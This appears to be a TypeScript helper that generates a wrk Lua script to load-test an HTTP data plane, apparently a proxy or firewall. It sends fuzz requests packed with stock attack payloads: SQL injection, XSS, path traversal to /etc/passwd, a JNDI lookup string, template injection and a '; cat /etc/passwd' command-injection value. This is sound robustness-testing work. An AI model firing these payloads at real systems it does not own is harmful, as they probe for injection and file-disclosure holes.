/**
 * A fuzz-like wrk mix: attack payloads in paths, queries, form and JSON bodies up to ~100 KB,
 * random header names and values up to 4 KB (what grows the data plane's heap).
 */
export function fuzzLua(host: string): string {
  return `
math.randomseed(os.time())
local payloads = {"' OR 1=1--", "<script>alert(1)</script>", "../../etc/passwd",
  "\${jndi:ldap://x/a}", "{{7*7}}", "; cat /etc/passwd", "%00%ff%fe", "\\"><img src=x onerror=alert(1)>"}
request = function()
  local p = payloads[math.random(#payloads)]
  local kind = math.random(0, 3)
  local headers = {["Host"] = "${host}", ["X-R" .. math.random(1, 1000)] = string.rep("v", math.random(1, 4000))}
  local path = "/p" .. math.random(1, 100000) .. "?q=" .. p .. "&r=" .. math.random()
  if kind == 0 then
    headers["Content-Type"] = "application/x-www-form-urlencoded"
    return wrk.format("POST", path, headers, string.rep("a=" .. p .. "&", math.random(1, 3000)))
  elseif kind == 1 then
    headers["Content-Type"] = "application/json"
    return wrk.format("POST", path, headers, '{"k":"' .. string.rep(p, math.random(1, 2000)) .. '"}')
  end
  return wrk.format("GET", path, headers)
end
`;
}
